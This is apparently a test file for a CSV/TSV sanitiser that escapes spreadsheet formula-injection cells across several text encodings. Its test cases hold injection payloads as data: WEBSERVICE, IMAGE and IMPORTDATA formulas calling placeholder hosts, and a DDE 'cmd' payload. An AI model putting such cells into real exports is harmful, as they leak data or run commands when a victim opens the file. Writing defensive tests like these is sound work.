import { expect, test } from 'bun:test'
import { withQuietCells } from '../../src/review/scrub/quiet-cells.ts'

const asking = `=WEBSERVICE("https://beacon.example/a")`

test.each([
  [asking, `'${asking}`],
  [`\ufeff${asking}`, `\ufeff'${asking}`],
  [`plot,1\n"=WEBSERVICE(""https://b.example/?a=1,2"")",7`, `plot,1\n"'=WEBSERVICE(""https://b.example/?a=1,2"")",7`],
  [`a;=IF(1;IMAGE("https://b.example/x");0);b`, `a;'=IF(1;IMAGE("https://b.example/x");0);b`],
  [`a\t+cmd|'/c calc'!A1\r\nb\t2`, `a\t'+cmd|'/c calc'!A1\r\nb\t2`],
  [`x,@IMPORTDATA("https://b.example")`, `x,'@IMPORTDATA("https://b.example")`],
  [`"=\n webservice (""https://b.example"")"`, `"'=\n webservice (""https://b.example"")"`],
  [`Ø, =WEBSERVICE("https://b.example/ø")`, `Ø, '=WEBSERVICE("https://b.example/ø")`],
])('a cell that asks somebody is a text: %j', (text, quiet) => {
  expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(withQuietCells(Buffer.from(text)))).toBe(quiet)
  const wide = Buffer.from(`\ufeff${text}`, 'utf16le')
  expect(Buffer.from(withQuietCells(wide)).toString('utf16le')).toBe(`\ufeff${quiet}`)
  const swapped = Buffer.from(wide).swap16()
  expect(Buffer.from(withQuietCells(swapped)).swap16().toString('utf16le')).toBe(`\ufeff${quiet}`)
})

test.each([
  '=A1+B1,-5,+3.2,@x\n',
  '- call (me)\n- rtd (old)\n',
  'fit <- call(lm)\nimage (x) = 3\n-1,-2\n',
  '"He said ""=WEBSERVICE(x)""",4',
  'plot,image (a),-0.5\n',
])('others stay as they are: %j', (text) => {
  for (const bytes of [Buffer.from(text), Buffer.from(`\ufeff${text}`, 'utf16le'), Buffer.from([0xff, 0xfe, 0x41])])
    expect(withQuietCells(bytes)).toBe(bytes)
})

test('a cell among a quarter of a million others is found', () => {
  const bytes = Buffer.from(`${'=A1,'.repeat(250_000)}${asking}\n`)
  expect(withQuietCells(bytes).length).toBeGreaterThan(bytes.length)
})
